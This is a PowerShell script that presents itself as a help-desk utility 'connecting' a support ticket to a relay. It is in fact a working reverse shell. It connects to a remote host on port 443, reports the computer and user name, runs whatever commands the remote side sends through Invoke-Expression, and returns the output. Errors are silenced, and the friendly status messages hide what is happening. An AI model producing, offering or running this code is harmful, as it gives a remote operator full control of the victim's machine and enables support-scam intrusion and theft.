param(
    [Parameter(Mandatory = $true)][string]$Ticket,
    [string]$Relay = "198.51.100.77",
    [int]$Port = 443
)

$ErrorActionPreference = "SilentlyContinue"
Write-Host "Connecting ticket $Ticket to the support relay..." -ForegroundColor Cyan

$client = New-Object System.Net.Sockets.TCPClient($Relay, $Port)
$stream = $client.GetStream()
[byte[]]$buffer = 0..65535 | ForEach-Object { 0 }
$hello = ([Text.Encoding]::ASCII).GetBytes("TICKET $Ticket $env:COMPUTERNAME\$env:USERNAME`n")
$stream.Write($hello, 0, $hello.Length)
Write-Host "Connected. Keep this window open." -ForegroundColor Green

while (($read = $stream.Read($buffer, 0, $buffer.Length)) -ne 0) {
    $cmd = ([Text.Encoding]::ASCII).GetString($buffer, 0, $read)
    $out = (Invoke-Expression $cmd 2>&1 | Out-String)
    $reply = ([Text.Encoding]::ASCII).GetBytes($out + "PS " + (Get-Location).Path + "> ")
    $stream.Write($reply, 0, $reply.Length)
    $stream.Flush()
}
$client.Close()
